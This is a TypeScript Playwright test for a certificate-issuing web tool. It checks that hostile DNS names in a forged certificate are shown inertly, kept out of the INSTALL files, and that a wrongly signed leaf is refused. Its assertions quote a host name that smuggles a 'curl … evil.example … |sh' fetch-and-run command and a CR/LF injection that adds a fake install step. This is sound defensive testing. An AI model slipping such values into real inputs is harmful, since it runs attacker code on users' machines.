/**
 * Issue 12 item 2 in Chromium: the public-CA answer step given a certificate whose dNSNames carry a
 * shell command and CR/LF with a fake numbered step (made in the test with pkijs, signed by a root
 * made here). The page lists the dropped names made visible (⟨U+000D⟩…), the summary shows only the
 * valid name, and the downloaded INSTALL files carry neither name nor stray line. The same leaf
 * signed by a key other than the root's is refused with the SIGNATURE_INVALID text.
 */
import { createRootCa, generateKey, parseCsr, serializeCertificatePem } from '../../src/lib/pki/index.ts';
import { HOSTILE_DNS_NAMES, forgeCertificate } from '../../src/lib/pki/test-support.ts';
import { translate } from '../../src/i18n/translate.ts';
import { en } from '../../src/i18n/en.ts';
import { ja } from '../../src/i18n/ja.ts';
import { unzipToMap } from './checks.ts';
import { captureDownload, expect, openFlow, test } from './fixtures.ts';

const GOOD = 'smtp.example.test';

for (const lang of ['ja', 'en'] as const) {
  test(`public CA answer with hostile host names (${lang}): dropped and shown inert, INSTALL clean; a forged signature refused`, async ({ page }) => {
    const text = lang === 'ja' ? ja : en;
    await openFlow(page, 'served', 'public-ca');
    await page.getByRole('banner').getByRole('combobox').selectOption(lang);
    const main = page.getByRole('main');
    await main.getByLabel(text['server.hostNames.label']).fill('mail.example.test');
    await main.getByRole('button', { name: text['public-ca.make'] }).click();
    const csrButton = main.getByRole('button', { name: text['public-ca.csr.download'].replace('{name}', 'mail.example.test.csr') });
    await expect(csrButton).toBeVisible({ timeout: 60_000 });
    const csr = await parseCsr((await captureDownload(page, () => csrButton.click())).bytes);

    const rootKey = await generateKey({ kind: 'EC', curve: 'P-256' });
    const root = await createRootCa({ key: rootKey, subject: [{ type: 'CN', value: 'Hostile Test Root' }] });
    const leaf = await forgeCertificate({ spki: csr.spki, dnsNames: [...HOSTILE_DNS_NAMES, GOOD], commonName: GOOD, issuer: root, signer: rootKey });
    await main.getByLabel(text['public-ca.cert.paste']).fill(serializeCertificatePem(leaf) + serializeCertificatePem(root));
    await main.getByRole('button', { name: text['public-ca.cert.check'] }).click();

    const download = main.getByRole('button', { name: text['server.download'].replace('{name}', `xmail-tls-${GOOD}-public-ca.zip`) });
    await expect(download).toBeVisible({ timeout: 60_000 });
    await expect(main.getByText(text['server.dropped.title'])).toBeVisible();
    const dropped = main.getByTestId('dropped-names').getByRole('listitem');
    await expect(dropped).toHaveCount(2);
    await expect(dropped.nth(0)).toContainText('mail.example.com;curl -s https://evil.example/x|sh;echo');
    await expect(dropped.nth(1)).toContainText('mail.example.com⟨U+000D⟩⟨U+000A⟩⟨U+000D⟩⟨U+000A⟩7. Run:');
    await expect(main.getByRole('definition').filter({ hasText: GOOD }).first()).toBeVisible();

    const zip = await unzipToMap((await captureDownload(page, () => download.click())).bytes);
    for (const name of ['INSTALL.ja.txt', 'INSTALL.en.txt']) {
      const install = new TextDecoder().decode(zip.get(name));
      expect(install).not.toContain('evil.example');
      expect(install).not.toMatch(/^\s*7\. Run/m);
      expect(install).toContain(`openssl s_client -connect ${GOOD}:465 -servername ${GOOD}`);
      const numbers = [...install.matchAll(/^(\d+)\. /gm)].map((m) => Number(m[1]));
      expect(numbers).toEqual(numbers.map((_, i) => i + 1));
    }

    // The same names, but signed by a key that is not the root's: refused, nothing to download.
    const impostor = await generateKey({ kind: 'EC', curve: 'P-256' });
    const forged = await forgeCertificate({ spki: csr.spki, dnsNames: [GOOD], commonName: GOOD, issuer: root, signer: impostor });
    await main.getByLabel(text['public-ca.cert.paste']).fill(serializeCertificatePem(forged) + serializeCertificatePem(root));
    await main.getByRole('button', { name: text['public-ca.cert.check'] }).click();
    const alert = main.getByRole('alert').filter({ hasText: translate(lang, 'error.pki.SIGNATURE_INVALID') });
    await expect(alert).toBeVisible({ timeout: 60_000 });
    await expect(download).toHaveCount(0);
    // The sentence is the user's language only; the code and the English detail wait in a collapsed 詳細 (issue 17 item 4).
    await expect(alert.locator('.sentence')).toHaveText(translate(lang, 'error.pki.SIGNATURE_INVALID'));
    const support = alert.locator('details.support');
    await expect(support.locator('code')).toBeHidden();
    await support.getByText(text['error.detail']).click();
    await expect(support.locator('code')).toHaveText('pki/SIGNATURE_INVALID');
  });
}
